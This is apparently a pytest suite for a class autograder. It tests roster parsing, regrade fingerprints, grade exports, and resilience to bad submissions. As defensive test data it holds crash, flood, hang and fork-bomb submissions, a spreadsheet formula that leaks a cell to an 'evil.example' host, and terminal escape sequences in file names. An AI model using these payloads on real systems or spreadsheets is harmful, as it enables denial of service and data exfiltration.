"""The whole class: every student accounted for, nothing stale, nothing lost, no submission stopping the others."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest

from autograder.course.class_outputs import canvas_csv, class_table, grades_csv
from autograder.course.grading_pool import GradingJob
from autograder.course.roster import AMBIGUOUS, SUBMITTED, read_roster
from autograder.course.rows import GRADED, NO_SUBMISSION, Row
from autograder.course.store import ClassInputs, Record
from autograder.model import CANNOT_GRADE, GradingRun
from autograder.rubric import DEFAULT_RUBRIC, load_rubric
from autograder.sandbox.procfs import descendants
from classkit import ROOT, fill_record, make_course, synthetic_run
from helpers import REFERENCE, FakeGrader, autograder

# -- the roster -----------------------------------------------------------------------------------


def test_every_student_folder_is_an_entry_with_the_file_graded_and_why(tmp_path):
    course = make_course(
        tmp_path,
        {
            "ann": {"mha.ipynb": "{}"},
            "bob": {"mha (1).ipynb": "{}"},  # what a browser or LMS download names a second copy
            "cat": {"mha-1.ipynb": "{}"},  # what nbgrader zip_collect makes of an LMS export
            "dan": {"mha.py": "", "mha.ipynb": "{}", "notes.txt": ""},
            "eve": {"mha (1).py": "", "mha (2).py": "", "draft.py": ""},
            "fay": {"notes.txt": "I forgot"},
            "gus": {},
            "hal": None,  # no mha/ folder at all
        },
    )
    roster = {e.student: e for e in read_roster(course)}
    assert sorted(roster) == ["ann", "bob", "cat", "dan", "eve", "fay", "gus", "hal"]
    assert roster["ann"].status == SUBMITTED and roster["ann"].note == ""
    for student, name in (("bob", "mha (1).ipynb"), ("cat", "mha-1.ipynb")):
        assert roster[student].status == SUBMITTED and roster[student].file.name == name
        assert f"graded {name}" in roster[student].note
    assert roster["dan"].status == AMBIGUOUS and roster["dan"].file.name == "mha.ipynb"
    assert "graded mha.ipynb because it has the assignment's own name" in roster["dan"].note
    assert "not graded: mha.py" in roster["dan"].note
    assert roster["eve"].status == AMBIGUOUS and roster["eve"].file.name == "mha (2).py"
    assert "highest copy number" in roster["eve"].note and "draft.py" in roster["eve"].note
    assert roster["fay"].status == "no_submission" and "notes.txt" in roster["fay"].note
    assert roster["gus"].status == "no_submission" and "(it is empty)" in roster["gus"].note
    assert roster["hal"].status == "no_submission" and "no mha/ folder" in roster["hal"].note


def test_the_roster_never_follows_a_link_out_of_a_students_folder(tmp_path):
    """frank's mha/ is a link to alice's, gina's file a link to alice's file, hugo's whole folder a link
    to alice's: none of them is graded as theirs (no submission, with a note); a link inside the folder
    (ivy's) is followed."""
    course = make_course(
        tmp_path,
        {"alice": {"mha.py": "x = 1\n"}, "frank": None, "gina": {}, "hugo": None, "ivy": {"mha (1).py": "y = 2\n"}},
    )
    submitted = course / "submitted"
    (submitted / "frank" / "mha").symlink_to("../alice/mha")
    (submitted / "gina" / "mha" / "mha.py").symlink_to(submitted / "alice" / "mha" / "mha.py")
    (submitted / "hugo").rmdir()
    (submitted / "hugo").symlink_to(submitted / "alice")
    (submitted / "ivy" / "mha" / "mha.py").symlink_to("mha (1).py")
    roster = {e.student: e for e in read_roster(course)}
    assert sorted(roster) == ["alice", "frank", "gina", "hugo", "ivy"]
    assert roster["frank"].status == NO_SUBMISSION and "symbolic link out of frank's folder" in roster["frank"].note
    assert roster["gina"].status == NO_SUBMISSION and "mha.py is a symbolic link out of" in roster["gina"].note
    assert roster["hugo"].status == NO_SUBMISSION and "symbolic link, not followed" in roster["hugo"].note
    assert roster["ivy"].file == submitted / "ivy" / "mha" / "mha.py"
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO(grades_csv(class_rows_of(course), load_rubric())))}
    for student in ("frank", "gina", "hugo"):
        assert rows[student]["status"] == NO_SUBMISSION and rows[student]["score"] == "0" and rows[student]["note"]


def test_the_roster_and_the_reader_share_one_file_name_rule(tmp_path):
    """`MHA.PY` and `Mha.IPYNB` are a .py and a notebook to the roster and to the reader alike."""
    from autograder.grading.submission import read_cells

    course = make_course(
        tmp_path, {"kim": {"MHA.PY": "x = 1\n"}, "lee": {"Mha.IPYNB": NOTEBOOK}, "max": {"mha.PY.txt": ""}}
    )
    roster = {e.student: e for e in read_roster(course)}
    assert [c.source for c in read_cells(roster["kim"].file)] == ["x = 1\n"]
    assert [c.source.strip() for c in read_cells(roster["lee"].file)] == ["y = 2"]
    assert roster["max"].status == NO_SUBMISSION


def class_rows_of(course) -> list[Row]:
    return [Row(e, None) for e in read_roster(course)]


NOTEBOOK = (
    '{"cells": [{"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": "y = 2"}],'
    ' "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
)


# -- nothing stale ----------------------------------------------------------------------------------


def test_a_run_is_redone_exactly_when_an_input_changed_or_it_could_not_grade(tmp_path, monkeypatch):
    course = make_course(tmp_path / "course", {"ann": {"mha.py": "x = 1\n"}})
    file = course / "submitted/ann/mha/mha.py"
    rubric = tmp_path / "rubric.toml"
    shutil.copy(DEFAULT_RUBRIC, rubric)
    record = Record(course)

    def why():
        return record.why_regrade("ann", ClassInputs.compute(rubric, "cpu").for_file(file))

    assert why() == "not graded yet"
    record.save_run("ann", synthetic_run("mha.py"))
    record.save_inputs("ann", ClassInputs.compute(rubric, "cpu").for_file(file))
    assert why() is None
    os.utime(file, (0, 0))  # an mtime alone changes nothing
    assert why() is None
    file.write_text("x = 2\n")
    assert why() == "the submission changed"
    file.write_text("x = 1\n")
    rubric.write_text(rubric.read_text() + "\n# a comment\n")
    assert why() == "the rubric changed"
    shutil.copy(DEFAULT_RUBRIC, rubric)
    assert (
        record.why_regrade("ann", ClassInputs.compute(rubric, "cuda").for_file(file)) == "another device was asked for"
    )
    import autograder.course.store as store

    monkeypatch.setattr(
        store, "sha256_tree", lambda files, root: "another grader" if root == store.PACKAGE_DIR else "same reference"
    )
    assert why() == "the checks or the grader changed"
    monkeypatch.undo()
    assert why() is None
    record.save_run("ann", synthetic_run("mha.py", status=CANNOT_GRADE, reason="the grader itself failed"))
    assert why() == "its last run could not grade"


def test_the_grader_fingerprint_covers_checks_and_sandbox_but_not_presentation():
    from autograder.course.store import PACKAGE_DIR, grader_files

    names = {p.relative_to(PACKAGE_DIR).as_posix() for p in grader_files()}
    assert {
        "grading/grade.py",
        "grading/scoring.py",
        "grading/checks/test_mha.py",
        "grading/checks/pytest.ini",
        "sandbox/inside/server.py",
        "sandbox/client.py",
        "contract.py",
        "rubric.py",
        "model.py",
    } <= names
    assert not {p for p in names if p.startswith(("course/", "platforms/", "authoring/"))}
    assert "rubric.toml" not in names


def test_editing_what_only_presents_or_hands_out_results_does_not_regrade_a_class(tmp_path):
    """The self-check, the benchmark, the feedback page's template and a platform adapter decide no score:
    editing any of them leaves the grader's hash alone; editing a check or the sandbox changes it."""
    from autograder.course.store import PACKAGE_DIR, grader_files, sha256_tree

    package = tmp_path / "autograder"
    shutil.copytree(PACKAGE_DIR, package, ignore=shutil.ignore_patterns("__pycache__"))
    bench = tmp_path / "tools" / "bench.py"
    bench.parent.mkdir()
    shutil.copy(ROOT / "tools" / "bench.py", bench)

    def fingerprint() -> str:
        return sha256_tree(grader_files(package), package)

    before = fingerprint()
    for edited in (
        package / "authoring" / "selfcheck.py",
        bench,
        package / "course" / "templates" / "feedback.html.j2",
        package / "platforms" / "gradescope.py",
        package / "platforms" / "classroom.py",
    ):
        edited.write_text(edited.read_text() + "\n# edited\n")
        assert fingerprint() == before, f"editing {edited.relative_to(tmp_path)} would regrade the class"
    for edited in (package / "grading" / "checks" / "test_mha.py", package / "sandbox" / "client.py"):
        original = edited.read_text()
        edited.write_text(original + "\n# edited\n")
        assert fingerprint() != before, f"editing {edited.relative_to(tmp_path)} must regrade the class"
        edited.write_text(original)


# -- the class outputs ------------------------------------------------------------------------------


def class_rows(tmp_path) -> list[Row]:
    course = make_course(
        tmp_path,
        {
            "ann": {"mha.py": ""},
            "bob": {"mha (1).ipynb": "{}"},
            "cat": {"mha.py": "", "mha.ipynb": "{}"},
            "dan": {"mha.py": ""},
            "eve": {},
        },
    )
    runs = {
        "ann": synthetic_run("mha.py"),
        "bob": synthetic_run("mha (1).ipynb", {"mha": 5.0, "fuse": 0.0}),
        "cat": synthetic_run("mha.ipynb", {"quiz": 0.0}),
        "dan": synthetic_run("mha.py", status=CANNOT_GRADE, reason="grading took more than 900 s and was stopped"),
    }
    return [Row(e, runs.get(e.student)) for e in read_roster(course)]


def test_grades_csv_has_a_row_per_student_with_parts_status_file_and_note(tmp_path):
    rubric = load_rubric()
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO(grades_csv(class_rows(tmp_path), rubric)))}
    assert list(rows) == ["ann", "bob", "cat", "dan", "eve"]
    assert [rows[s]["status"] for s in rows] == [GRADED, GRADED, AMBIGUOUS, CANNOT_GRADE, NO_SUBMISSION]
    assert rows["ann"]["score"] == "100" and rows["ann"]["mha"] == str(int(rubric.part_points("mha")))
    expected_bob = rubric.max_score - rubric.part_points("mha") + 5 - rubric.part_points("fuse")
    assert float(rows["bob"]["score"]) == expected_bob and rows["bob"]["mha"] == "5" and rows["bob"]["fuse"] == "0"
    assert rows["bob"]["file"] == "mha (1).ipynb" and "graded mha (1).ipynb" in rows["bob"]["note"]
    assert "graded mha.ipynb" in rows["cat"]["note"] and "not graded: mha.py" in rows["cat"]["note"]
    assert rows["dan"]["score"] == "" and "900 s" in rows["dan"]["note"]  # no made-up zero
    assert rows["eve"]["score"] == "0" and rows["eve"]["file"] == ""


def test_one_status_vocabulary_in_results_json_grades_csv_and_the_tables(tmp_path):
    """A run that could not grade is `cannot_grade` in results.json, grades.csv and (with a space) on the
    terminal."""
    from rich.console import Console

    from autograder.course.class_outputs import students_table
    from autograder.course.rows import STATUSES, status_words

    rows = class_rows(tmp_path)
    written = {r["student"]: r["status"] for r in csv.DictReader(io.StringIO(grades_csv(rows, load_rubric())))}
    assert set(written.values()) <= set(STATUSES) and written["dan"] == CANNOT_GRADE
    dan = next(r for r in rows if r.student == "dan")
    assert dan.run.to_gradescope()["extra_data"]["status"] == written["dan"]
    console = Console(record=True, width=200)
    console.print(students_table(rows))
    shown = console.export_text()
    assert status_words(CANNOT_GRADE) in shown and "could not" not in shown


def test_the_canvas_export_has_canvas_columns_points_possible_and_totals(tmp_path):
    rubric = load_rubric()
    lines = list(csv.reader(io.StringIO(canvas_csv(class_rows(tmp_path), rubric))))
    assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "mha"]
    assert lines[1] == ["Points Possible", "", "", "", "", "100"]
    by_login = {line[3]: line[5] for line in lines[2:]}
    assert by_login == {
        "ann": "100",
        "bob": str(round(100 - rubric.part_points("mha") + 5 - rubric.part_points("fuse"), 2)).removesuffix(".0"),
        "cat": str(int(100 - rubric.part_points("quiz"))),
        "dan": "",
        "eve": "0",
    }


def test_the_class_table_gives_mean_median_and_distribution_per_part(tmp_path):
    from rich.console import Console

    rubric = load_rubric()
    console = Console(record=True, width=150)
    console.print(class_table(class_rows(tmp_path), rubric))
    text = console.export_text()
    lines = {
        line.split("│")[1].strip(): [c.strip() for c in line.split("│")[2:-1]]
        for line in text.splitlines()
        if line.startswith("│")
    }
    scored = [100.0, 100 - rubric.part_points("mha") + 5 - rubric.part_points("fuse"), 100 - rubric.part_points("quiz")]
    import statistics

    assert (
        lines["total"][1] == f"{statistics.fmean(scored):.1f}" and lines["total"][2] == f"{statistics.median(scored):g}"
    )
    assert lines["mha"][3] == "2/3" and lines["quiz"][3] == "2/3"
    assert "3 of 5 students scored" in text
    quiz_bars = lines["quiz"][4]
    assert len(quiz_bars) == 10 and quiz_bars[0] != "·" and quiz_bars[-1] == "█"


# -- grading a class -----------------------------------------------------------------------------------

HOSTILE = {
    "crash": "import os\nos._exit(3)\n",
    "flood": "import sys\nfor _ in range(200000):\n    sys.stdout.write('flood ' * 20 + '\\n')\n",
    "hang": "while True:\n    pass\n",
    "forks": (
        "import os, time\nfor _ in range(60):\n    if os.fork() == 0:\n        time.sleep(600)\n        os._exit(0)\n"
    ),
}


@pytest.mark.slow
def test_crashes_floods_hangs_and_forks_never_stop_the_others_and_outputs_cover_everyone(tmp_path):
    files = {name: {"mha.py": text} for name, text in HOSTILE.items()}
    files["ann"] = {"mha (1).py": REFERENCE.read_text()}
    files["zed"] = {}
    course = make_course(tmp_path / "course", files)
    first = autograder("grade-class", course, "--device", "cpu", "--jobs", "2", cwd=tmp_path)
    assert first.returncode == 0, first.stdout + first.stderr
    rows = {r["student"]: r for r in csv.DictReader((course / "grades.csv").open())}
    assert sorted(rows) == ["ann", "crash", "flood", "forks", "hang", "zed"]
    assert rows["ann"]["score"] == "100" and rows["ann"]["status"] == GRADED and "mha (1).py" in rows["ann"]["note"]
    for name in HOSTILE:
        assert rows[name]["status"] == GRADED and rows[name]["score"] == "0", rows[name]
        assert (course / "feedback" / name / "mha" / "feedback.html").is_file()
        assert (course / "autograded" / name / "mha" / "results.json").is_file()
    assert rows["zed"]["status"] == NO_SUBMISSION
    out = " ".join(first.stdout.split())
    assert "The class at a glance" in out and "grades.csv" in out and "feedback" in out
    # the record, as the grading processes write it, and the gradebook: 0640, as every course output
    import stat

    for path in [course / "gradebook.db", *(course / "results").glob("*/mha/*.json")]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o640, path
    # on a machine without CUDA, --device auto is the CPU: the same device, so nobody is regraded
    auto = autograder("grade-class", course, "--device", "auto", cwd=tmp_path)
    assert "0 to grade" in " ".join(auto.stdout.split()), auto.stdout

    again = autograder("grade-class", course, "--device", "cpu", "--student", "crash", "--force", cwd=tmp_path)
    assert "1 submission: 1 to grade, 0 already graded (1 forced)" in " ".join(again.stdout.split())
    assert len(list(csv.DictReader((course / "grades.csv").open()))) == 6  # outputs still cover everyone


@pytest.mark.slow
@pytest.mark.long
def test_kill_9_mid_class_then_run_again_finishes_the_rest_and_loses_nothing(tmp_path):
    students = ["ann", "bob", "cat"]
    course = make_course(tmp_path / "course", {s: {"mha.py": REFERENCE.read_text()} for s in students})
    record = Record(course)
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    make = subprocess.Popen(
        [
            "make",
            "--no-print-directory",
            "-C",
            str(ROOT),
            "grade",
            f"COURSE={course}",
            "DEVICE=cpu",
            "JOBS=1",
            f"VENV={Path(sys.executable).parent.parent}",
        ],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline and not record.inputs_path("ann").exists():
        assert make.poll() is None, "make grade ended before the test could kill it"
        time.sleep(0.2)
    assert record.inputs_path("ann").exists(), "the first submission was not graded within 10 minutes"
    family = descendants(make.pid)
    os.killpg(make.pid, signal.SIGKILL)  # make, grade-class and its grading processes, all at once
    make.wait()
    first_results = record.results_path("ann").read_bytes()
    survivors = []
    for _ in range(50):  # workers live in their own sessions: they must die with their grader
        survivors = [
            pid
            for pid in family
            if Path(f"/proc/{pid}").exists() and Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0] != "Z"
        ]
        if not survivors:
            break
        time.sleep(0.2)
    assert not survivors, f"processes outlived the killed class run: {survivors}"
    assert not (course / "grades.csv").exists()  # it was killed before the end

    second = autograder("grade-class", course, "--device", "cpu", cwd=tmp_path)
    assert second.returncode == 0, second.stderr
    summary = " ".join(second.stdout.split())
    assert "3 submissions:" in summary and "already graded" in summary
    assert record.results_path("ann").read_bytes() == first_results  # not graded again, not lost
    rows = {r["student"]: r for r in csv.DictReader((course / "grades.csv").open())}
    assert {s: rows[s]["score"] for s in students} == {s: "100" for s in students}
    assert all(record.inputs_path(s).exists() for s in students)
    third = autograder("grade-class", course, "--device", "cpu", cwd=tmp_path)
    assert "3 submissions: 0 to grade, 3 already graded" in " ".join(third.stdout.split())


def test_a_rerun_with_nothing_changed_grades_nothing_and_writes_nothing(tmp_path):
    course = make_course(tmp_path / "course", {"ann": {"mha.py": "x = 1\n"}, "bob": {"mha.ipynb": "{}"}, "cat": {}})
    fill_record(course, {"ann": synthetic_run("mha.py"), "bob": synthetic_run("mha.ipynb", {"quiz": 0})})
    first = autograder("grade-class", course, "--device", "cpu", cwd=tmp_path)
    assert "2 submissions: 0 to grade, 2 already graded" in " ".join(first.stdout.split()), first.stdout + first.stderr
    outputs = [
        course / "grades.csv",
        course / "feedback/ann/mha/feedback.html",
        course / "gradebook.db",
        course / "autograded/bob/mha/results.json",
    ]
    before = {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in outputs}
    started = time.monotonic()
    second = autograder("grade-class", course, "--device", "cpu", cwd=tmp_path)
    took = time.monotonic() - started
    assert "0 to grade" in second.stdout and "(0 written)" in " ".join(second.stdout.split())
    for path in outputs[1:]:
        assert path.stat().st_mtime_ns == before[path][0], f"{path} was rewritten"
    assert (course / "grades.csv").read_bytes() == before[outputs[0]][1]
    assert took < 60  # (about a second; generous for a loaded machine)


def as_a_grader_that_is_not_root(command: list[str]) -> list[str]:
    """`command` as root without the capabilities that let root read any file (CAP_DAC_OVERRIDE and
    CAP_DAC_READ_SEARCH): a folder's mode bits then hold as they do for a grader that is not root, while the
    virtualenv under root's home stays readable (util-linux's setpriv)."""
    return ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--", *command]


def grade_class_as_a_grader_that_is_not_root(
    course: Path, options: list[str], cwd: Path
) -> tuple[subprocess.CompletedProcess, str]:
    """`grade-class COURSE --device cpu OPTIONS` run so; and what it said, its white space folded."""
    run = subprocess.run(
        as_a_grader_that_is_not_root(
            [sys.executable, "-m", "autograder", "grade-class", str(course), "--device", "cpu", *options]
        ),
        capture_output=True,
        text=True,
        timeout=600,
        cwd=cwd,
    )
    return run, " ".join((run.stdout + run.stderr).split())


@pytest.mark.slow  # gradings in processes of their own
@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root and util-linux's setpriv")
def test_folders_and_files_the_grader_cannot_read_are_a_note_on_that_student(tmp_path):
    """bob's mha/ is mode 0300 (listed by no one), cal's folder 0000, dee's mha.py 0000, to a grader that is not
    root: once a PermissionError from the roster or the store stopped grade-class and --merge for everyone.
    Each is now a note on that student (no submission, or cannot grade: graded again next run), the
    others are graded, and every output is written, by grade-class and by --merge alike."""
    course = make_course(
        tmp_path / "course",
        {s: {"mha.py": f"x = {n}\n"} for n, s in enumerate(("ann", "bob", "cal", "dee"))},
    )
    fill_record(course, {s: synthetic_run("mha.py") for s in ("ann", "bob", "cal", "dee")})
    submitted = course / "submitted"
    os.chmod(submitted / "bob" / "mha", 0o300)
    os.chmod(submitted / "cal", 0)
    os.chmod(submitted / "dee" / "mha" / "mha.py", 0)
    try:
        for merge in ([], ["--merge"]):
            run, said = grade_class_as_a_grader_that_is_not_root(course, merge, tmp_path)
            assert "Traceback" not in said and run.returncode == 0, said[-2000:]
            rows = {r["student"]: r for r in csv.DictReader(io.StringIO((course / "grades.csv").read_text()))}
            assert rows["ann"]["status"] == GRADED and rows["ann"]["score"] == "100"
            assert rows["bob"]["status"] == NO_SUBMISSION
            assert "submitted/bob/mha/ cannot be read by the grader (Permission denied)" in rows["bob"]["note"]
            assert rows["cal"]["status"] == NO_SUBMISSION
            assert "submitted/cal/ cannot be read by the grader (Permission denied)" in rows["cal"]["note"]
            assert rows["dee"]["status"] == CANNOT_GRADE and "Permission denied" in rows["dee"]["note"]
        # submitted/ itself unlisted: nobody can be graded, and it says so (no traceback), writing nothing
        os.chmod(submitted, 0o300)
        before = (course / "grades.csv").read_text()
        for merge in ([], ["--merge"]):
            run, said = grade_class_as_a_grader_that_is_not_root(course, merge, tmp_path)
            assert run.returncode == 2 and "Traceback" not in said, said[-2000:]
            assert f"{submitted} cannot be read by the grader (Permission denied)" in said, said[-2000:]
            assert (course / "grades.csv").read_text() == before
    finally:
        os.chmod(submitted, 0o755)
        os.chmod(submitted / "bob" / "mha", 0o755)
        os.chmod(submitted / "cal", 0o755)


def test_the_store_reads_no_more_of_a_file_than_the_reader_would(tmp_path):
    """A sparse 20 GiB mha.py: its hash is decided by stat (over the reader's size limit) before a byte is
    read; once it was hashed whole on every class run (16 s, 66 s under load) before anyone was graded.
    Counted in bytes read, not seconds: a re-run with nothing changed now takes about 2 s, its start."""
    from autograder.course.store import submission_hash
    from autograder.grading.submission import MAX_BYTES

    course = make_course(tmp_path / "course", {"ann": {"mha.py": "x = 1\n"}, "big": {"mha.py": ""}})
    big = course / "submitted" / "big" / "mha" / "mha.py"
    os.truncate(big, 20 << 30)

    def bytes_read() -> int:
        return int(dict(line.split(": ") for line in Path("/proc/self/io").read_text().splitlines())["rchar"])

    before = bytes_read()
    inputs = ClassInputs.compute(DEFAULT_RUBRIC, "cpu")
    assert inputs.for_file(big)["submission"] == "over the size limit"
    ann = inputs.for_file(course / "submitted" / "ann" / "mha" / "mha.py")["submission"]
    assert bytes_read() - before < 4 * MAX_BYTES  # the grader's own files and ann's: never the 20 GiB
    assert ann == hashlib.sha256(b"x = 1\n").hexdigest()  # within the limit: the same hash as before
    os.truncate(big, MAX_BYTES + 1)
    assert submission_hash(big) == "over the size limit"
    os.truncate(big, MAX_BYTES)
    assert submission_hash(big) == hashlib.sha256(bytes(MAX_BYTES)).hexdigest()
    os.truncate(big, 20 << 30)
    fill_record(course, {"ann": synthetic_run("mha.py"), "big": synthetic_run("mha.py", {"quiz": 0})})
    # a re-run with nothing changed, as a process that says at its end how many bytes it read in all
    counted = (
        "import atexit, sys\n"
        "atexit.register(lambda: print('READ', open('/proc/self/io').read().split()[1], file=sys.stderr))\n"
        "from autograder.cli import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    again = subprocess.run(
        [sys.executable, "-c", counted, "grade-class", str(course), "--device", "cpu"],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=tmp_path,
    )
    assert "2 submissions: 0 to grade, 2 already graded" in " ".join(again.stdout.split()), again.stdout + again.stderr
    read = int(again.stderr.split("READ ")[-1].split()[0])
    assert read < 1 << 30, f"the re-run read {read:,} bytes"  # its modules and the record (the file is 20 GiB)


def test_the_class_modules_import_each_other_without_a_circle_and_at_the_top():
    """class_outputs, feedback and gradebook all read `rows.Row`: no circle among the class modules,
    and none broken by an import inside a function."""
    import ast

    from autograder.course.store import PACKAGE_DIR

    graph: dict[str, set[str]] = {}
    for path in sorted((PACKAGE_DIR / "course").glob("*.py")):
        tree = ast.parse(path.read_text())
        top = set(tree.body)
        graph[path.stem] = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("autograder.course"):
                assert node in top, f"{path.name}:{node.lineno} imports {node.module} inside a function"
                graph[path.stem].add(node.module.split(".")[2])
    done: set[str] = set()

    def visit(module: str, path: tuple[str, ...]):
        assert module not in path, f"import circle: {' -> '.join((*path, module))}"
        if module not in done:
            for imported in graph.get(module, ()):
                visit(imported, (*path, module))
            done.add(module)

    for module in graph:
        visit(module, ())
    assert {"rows"} <= graph["feedback"] & graph["gradebook"] & graph["class_outputs"]


# -- names a student chose ---------------------------------------------------------------------------

FORMULA = '=HYPERLINK("evil.example?"&A1,"x")&x.py'  # (a file name holds no slash)
ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x1b[0m\x9b2J.py"  # OSC (window title), CSI, and C1's CSI


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\t="])
def test_a_csv_cell_that_could_be_a_formula_is_neutralised(start):
    from autograder.course.clean import csv_cell

    cell = csv_cell(start + "1+1")
    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell
    assert csv_cell("mha (1).py") == "mha (1).py" and csv_cell("87.14") == "87.14"


def test_file_and_folder_names_never_reach_a_csv_as_formulas_nor_a_terminal_as_escapes(tmp_path):
    """A submission named as a formula, one named with terminal escapes, a student folder named as a
    formula: grades.csv, the Canvas file, the terminal and the feedback page get them cleaned."""
    from rich.console import Console

    from autograder.course.class_outputs import OutputOptions, write_class_outputs
    from autograder.course.feedback import render

    course = make_course(
        tmp_path / "course",
        {"ann": {FORMULA: "x = 1\n"}, "bob": {ESCAPES: "x = 1\n"}, "@SUM(1+1)": {"mha.py": "x = 1\n"}},
    )
    runs = {e.student: synthetic_run(e.file.name) for e in read_roster(course)}
    rows = [Row(e, runs[e.student]) for e in read_roster(course)]
    out = io.StringIO()
    console = Console(file=out, width=200, color_system=None, force_terminal=False)
    write_class_outputs(course, rows, load_rubric(), OutputOptions(gradebook=False), console)
    for name in ("grades.csv", "grades-canvas.csv"):
        text = (course / name).read_text()
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, name
        for line in csv.reader(io.StringIO(text)):
            assert not [cell for cell in line if cell.lstrip().startswith(("=", "+", "-", "@"))], (name, line)
    grades = {r["student"]: r for r in csv.DictReader((course / "grades.csv").open())}
    assert grades["ann"]["file"] == "'" + FORMULA and grades["'@SUM(1+1)"]["score"] == "100"
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue() and "owned" in out.getvalue()
    page = render(rows[1])
    assert "\x1b" not in page and "\x9b" not in page


def test_distinct_students_stay_distinct_once_their_names_are_cleaned(tmp_path):
    """`dup\nname` and `dup name` were one name in grades.csv (the newline became a space), and a bidi override
    (U+202E) passed through. Each student keeps a row of their own, under a label no other student has, with
    a note saying how their folder's name is shown; safe names are shown as they are."""
    from autograder.course.class_outputs import OutputOptions, write_class_outputs
    from autograder.course.nbgrader_export import COLUMNS, export_rows

    names = ["dup\nname", "dup name", "dup\rname", "dup\u202ename", "=x", "'=x", "ann"]
    course = make_course(tmp_path / "course", {n: {"mha.py": "x = 1\n"} for n in names})
    rows = [Row(e, synthetic_run("mha.py", {"quiz": 0})) for e in read_roster(course)]  # each named in class.html
    assert sorted(r.student for r in rows) == sorted(names)
    from rich.console import Console

    write_class_outputs(course, rows, load_rubric(), OutputOptions(gradebook=False), Console(file=io.StringIO()))
    for name in ("grades.csv", "grades-canvas.csv"):
        text = (course / name).read_text()
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text), name
        students = [line[0] for line in csv.reader(io.StringIO(text))][1:]
        students = [s for s in students if s != "Points Possible"]
        assert len(students) == len(set(students)) == len(names), (name, students)
    grades = {r["student"]: r for r in csv.DictReader(io.StringIO((course / "grades.csv").read_text()))}
    assert grades["dup name"]["note"] == "" and grades["ann"]["note"] == ""
    assert {"dup\ufffdname", "dup\ufffdname (2)", "dup\ufffdname (3)"} <= set(grades)
    assert "shown as 'dup\ufffdname" in grades["dup\ufffdname"]["note"]
    assert "numbered to tell it from another student's" in grades["dup\ufffdname (2)"]["note"]
    assert grades["'=x"]["note"] == "" and "read as a formula" in grades["'=x (2)"]["note"]
    # the class report lists who made each mistake: every student once, by the label grades.csv shows
    page = (course / "class.html").read_text()
    who = re.search(r"<summary>who</summary>(.*?)</details>", page, re.S)
    assert who is not None, page[:2000]
    listed = [html.unescape(n) for n in re.findall(r'<a href="[^"]*">([^<]*)</a>', who.group(1))]
    assert sorted(listed) == sorted(r.shown for r in rows) and len(set(listed)) == len(names), listed
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", page)

    # nbgrader's own export (`nbgrader export`), made from the gradebook's ids
    from nbgrader.api import MissingEntry

    class Gradebook:
        students = [SimpleNamespace(id=n, last_name="", first_name="", email="") for n in names]
        assignments = [SimpleNamespace(name="mha", duedate=None, max_score=100)]

        def find_submission(self, assignment, student):
            raise MissingEntry()

    exported = [row[COLUMNS.index("student_id")] for row in export_rows(Gradebook(), [], [])[1:]]
    assert len(set(exported)) == len(names) and "dup name" in exported and "dup\ufffdname (2)" in exported


def test_a_class_run_closes_the_course_to_other_users_and_writes_nothing_they_can_read(tmp_path):
    """Under process isolation a worker runs as another uid: it must not read classmates' submissions,
    results.json (hidden checks' messages) or the grades. The course folder loses its bits for others,
    and every output is 0640."""
    import stat

    from autograder.course import grade_class

    course = make_course(tmp_path / "course", {"ann": {"mha.py": "x = 1\n"}, "bob": {}})
    os.chmod(course, 0o755)
    fill_record(course, {"ann": synthetic_run("mha.py")})
    assert grade_class.grade_class(grade_class.ClassOptions(course, device="cpu")) == grade_class.EXIT_DONE
    assert stat.S_IMODE(course.stat().st_mode) == 0o750
    for path in (
        course / "grades.csv",
        course / "grades-canvas.csv",
        course / "autograded/ann/mha/results.json",
        course / "feedback/ann/mha/feedback.html",
        course / "feedback/bob/mha/feedback.html",
        course / "gradebook.db",
    ):
        assert stat.S_IMODE(path.stat().st_mode) == 0o640, path


def quick_job(tmp_path: Path, name: str) -> GradingJob:
    """A job a grading process answers at once: a file that is not there (cannot grade, no worker)."""
    out = tmp_path / "results" / name / "mha" / "results.json"
    return GradingJob(id=name, submission=tmp_path / "none.py", out=out, device="cpu", rubric=DEFAULT_RUBRIC)


def test_the_record_written_by_a_grading_process_is_private_too(tmp_path):
    """The grading processes of `make grade` write the record's results.json 0640, as every course output."""
    import stat

    from autograder.course.grading_pool import JobReply, Ready, read_reply

    job = quick_job(tmp_path, "ann")
    done = subprocess.run(
        [sys.executable, "-m", "autograder.course.grading_pool"],
        input=job.to_wire(),
        capture_output=True,
        text=True,
        timeout=300,
    )
    ready, reply = map(read_reply, done.stdout.splitlines())
    assert isinstance(ready, Ready) and isinstance(reply, JobReply), done.stdout + done.stderr
    assert (reply.id, reply.status) == ("ann", "cannot_grade")
    assert stat.S_IMODE(job.out.stat().st_mode) == 0o640


def test_on_a_machine_without_cuda_device_auto_and_cpu_are_the_same_inputs(tmp_path, monkeypatch):
    """Switching --device auto and --device cpu where both mean the CPU regrades nobody."""
    from autograder.course import grade_class, placement

    monkeypatch.setattr(placement, "cuda_device_count", lambda: 0)
